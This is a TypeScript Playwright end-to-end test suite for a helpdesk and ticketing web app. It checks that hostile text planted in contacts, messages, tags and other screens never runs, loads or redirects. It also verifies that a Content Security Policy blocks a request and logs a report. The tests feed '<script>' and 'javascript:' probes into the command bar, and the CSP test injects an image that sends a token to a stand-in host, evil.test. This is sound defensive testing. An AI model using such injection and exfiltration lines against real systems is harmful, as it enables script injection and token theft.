// @module-tag messages
// @module-tag contacts
// @module-tag tickets

import type { Locator, Page } from 'playwright-core'
import { expect, test } from 'vitest'
import { openBrowser, shoot } from './support/browser.ts'
import { connectNumber } from './support/connection.ts'
import { chooseTicketAction, conversation, openTab, row } from './support/desk.ts'
import { dangersIn, hostile, missing, readAll, rollBy, setTraps } from './support/hostile/hostile.ts'
import { keptName, plantMessages, plantRecords, hostileSender, subject } from './support/hostile/planting.ts'
import { demoPeople as people } from './support/product.ts'
import { setOwnStage } from './support/stage.ts'
import { until } from './support/until.ts'

const report = 'the content policy was violated'

const stage = setOwnStage(async (product) => {
  await connectNumber(product)
  await plantMessages(product)
  await plantRecords(product)
})

/** A user's browser with traps, none of which may have triggered by the end. */
async function enterTrapped(email: string): Promise<{ page: Page; sprung: string[] }> {
  const page = await stage.enter(email)
  const sprung = await setTraps(page.context(), stage.product.url)
  await page.reload()
  return { page, sprung }
}

/** Reads a screen, scrolling where needed, until all of these strings were seen on it as text. */
async function see(
  page: Page,
  planted: readonly string[],
  { roll, by = 600, letters }: { roll?: Locator; by?: number; letters?: number } = {},
): Promise<void> {
  let left = planted
  const unseen = async () => {
    left = missing(left, await readAll(page), letters)
    if (left.length > 0 && roll) await rollBy(roll, by)
    return left
  }
  await expect.poll(unseen, { timeout: 60_000, interval: 10 }).toEqual([])
  expect(await dangersIn(page)).toEqual([])
}

const odd = (texts: readonly string[]) => texts.filter((_text, at) => at % 2 === 0)
const even = (texts: readonly string[]) => texts.filter((_text, at) => at % 2 === 1)

/** The lists, the bell and the command bar. */
async function walkLists(page: Page): Promise<void> {
  const list = page.getByRole('list', { name: 'Atendimentos' })
  const fields = ['contact', 'last', 'queue', 'connection', 'tag']
  await page.getByRole('switch', { name: 'Ver todos' }).setChecked(true)
  await see(page, fields.map(hostile).flatMap(even), { roll: list })
  await openTab(page, /Aguardando/)
  await see(page, [...fields.map(hostile).flatMap(odd), hostileSender.name, subject], { roll: list })
  await shoot(page, 'hostile-list')
  await page.getByRole('button', { name: /^Avisos de atendimentos/ }).click()
  await see(page, odd(hostile('contact')), { roll: page.getByRole('dialog', { name: 'Avisos de atendimentos' }) })
  await shoot(page, 'hostile-bell')
  await page.keyboard.press('Escape')
  await page.keyboard.press('Control+k')
  const words = page.getByRole('combobox', { name: 'Buscar ou ir para…' })
  for (const typed of ['contact0', 'contact1', '<script>', 'javascript:']) {
    await words.fill(typed)
    await page.getByRole('option', { name: typed }).first().waitFor()
    expect(await dangersIn(page)).toEqual([])
  }
  await shoot(page, 'hostile-command-bar')
  await page.keyboard.press('Escape')
}

/** The conversation with the stranger, accepted: its panel, its pictures, and what can be sent in answer. */
async function walkConversation(page: Page): Promise<void> {
  const thread = page.getByRole('log')
  const kinds = [...['text', 'place', 'card', 'caption'].flatMap(hostile), ...hostile('file').map(keptName)]
  await page.goto(`${stage.product.url}/tickets/${await hostileTicketUuid()}`)
  await conversation(page, hostileSender).getByRole('button', { name: 'Aceitar' }).click()
  await see(page, kinds, { roll: thread, by: -800 })
  await shoot(page, 'hostile-conversation')
  // The latest forty tickets, this one among them.
  const past = hostile('past').slice(1)
  await see(page, [...['note', 'user', 'fact', 'value'].flatMap(hostile), ...past], {
    roll: page.getByRole('complementary', { name: 'Contato' }),
  })
  await shoot(page, 'hostile-panel')
  const pictures = page.getByRole('button', { name: /^Abrir imagem/ })
  await page.getByRole('button', { name: 'Ir para a mensagem mais recente' }).click()
  await expect.poll(async () => (await pictures.count()) || rollBy(thread, -800)).toBeGreaterThan(0)
  await pictures.first().click()
  const picture = page.getByRole('dialog').getByRole('img').first()
  await picture.waitFor()
  expect(await dangersIn(page)).toEqual([])
  await shoot(page, 'hostile-lightbox')
  await page.keyboard.press('Escape')
  await page.getByRole('textbox', { name: 'Mensagem' }).fill('/')
  await see(page, [...hostile('short')], { roll: page.getByRole('listbox', { name: 'Respostas rápidas' }) })
  await shoot(page, 'hostile-slash')
  await page.getByRole('combobox', { name: 'Mensagem' }).fill('')
}

async function hostileTicketUuid(): Promise<string> {
  const [ticket] = await stage.product.query<{ uuid: string }>(
    `select t.uuid from tickets t join contacts c on c.id = t.contact_id where c.name = $1 and t.status <> 'closed'`,
    [hostileSender.name],
  )
  return ticket?.uuid ?? ''
}

/** All users' schedules for the stranger. Attendants see only their own. */
async function walkSchedules(page: Page): Promise<void> {
  await chooseTicketAction(page, hostileSender, 'Agendar mensagem')
  await page.getByRole('dialog').getByRole('button', { name: 'Ver mais' }).click()
  await see(page, [...hostile('schedule'), ...hostile('user')], { roll: page.getByRole('dialog') })
  await shoot(page, 'hostile-schedules')
  await page.keyboard.press('Escape')
}

async function walkTransfer(page: Page): Promise<void> {
  await chooseTicketAction(page, hostileSender, 'Transferir')
  const transfer = page.getByRole('dialog')
  await transfer.getByRole('combobox', { name: 'Fila' }).click()
  await see(page, hostile('queue'), { roll: page.getByRole('listbox') })
  await page.keyboard.press('Escape')
  await transfer.getByRole('combobox', { name: 'Atendente' }).fill('user')
  await page.getByRole('option').first().waitFor()
  expect(await dangersIn(page)).toEqual([])
  await shoot(page, 'hostile-transfer')
  await page.keyboard.press('Escape')
  await page.keyboard.press('Escape')
}

async function visit(page: Page, path: string): Promise<void> {
  await page.getByRole('navigation').locator(`a[href="${path}"]`).first().click()
  await page.waitForURL(`**${path}`)
}

async function walkScreens(page: Page): Promise<void> {
  await visit(page, '/quick-messages')
  await see(page, [...hostile('short'), ...hostile('quick')], { roll: page.getByRole('main') })
  await shoot(page, 'hostile-quick-messages')
  await visit(page, '/tags')
  await see(page, hostile('tag'), { roll: page.getByRole('main') })
  await shoot(page, 'hostile-tags')
  await visit(page, '/helps')
  await see(page, [...hostile('help'), ...hostile('told')], { roll: page.getByRole('main') })
  await shoot(page, 'hostile-helps')
  await visit(page, '/kanban')
  await see(page, hostile('contact'), { roll: page.locator('[data-lane="0"] [data-cards]') })
  await shoot(page, 'hostile-kanban')
  await visit(page, '/todolist')
  for (const text of hostile('todo')) {
    await page.getByLabel('O que falta fazer?').fill(text.slice(0, 400))
    await page.keyboard.press('Enter')
  }
  await page.reload()
  await see(
    page,
    hostile('todo').map((text) => text.slice(0, 400)),
  )
  await shoot(page, 'hostile-todo')
}

test('nothing that customers or colleagues write runs, loads or leads away on any screen, nor does a user’s own name', async () => {
  const [own = ''] = hostile('own')
  await stage.product.query('update users set name = $1 where email = $2', [own, people.marina])
  const { page, sprung } = await enterTrapped(people.marina)
  await see(page, [own])
  await walkLists(page)
  // A long list renders only the rows near its viewport.
  const theirs = row(page, hostileSender).filter({ hasNotText: subject })
  await expect.poll(async () => (await theirs.count()) || rollBy(page.getByRole('list', { name: 'Atendimentos' }), 300)).toBe(1)
  await theirs.getByRole('button', { name: /^Espiar/ }).click()
  await see(page, hostile('file').map(keptName), { roll: page.getByRole('log'), by: -800 })
  await page.keyboard.press('Escape')
  await walkConversation(page)
  await walkSchedules(page)
  await walkTransfer(page)
  await walkScreens(page)
  await visit(page, '/connections')
  await see(page, hostile('connection'), { roll: page.getByRole('main') })
  await shoot(page, 'hostile-connections')
  await visit(page, '/files')
  await see(page, [...hostile('filelist'), ...hostile('listed')], { roll: page.getByRole('main') })
  await shoot(page, 'hostile-files')
  expect(sprung).toEqual([])
  expect(stage.product.output.filter((line) => line.includes(report))).toEqual([])
})

test('the server logs a report if the browser’s policy blocks a request', async () => {
  const { context } = await openBrowser(stage.browser)
  const page = await context.newPage()
  await page.goto(`${stage.product.url}/login`)
  await page.evaluate(() => document.body.append(Object.assign(new Image(), { src: 'https://evil.test/secret?token=1' })))
  const line = await until('the report is logged', () => stage.product.output.find((printed) => printed.includes(report)))
  expect(JSON.parse(line)).toMatchObject({ directive: 'img-src', blocked: 'https://evil.test', page: '/login' })
  await context.close()
})
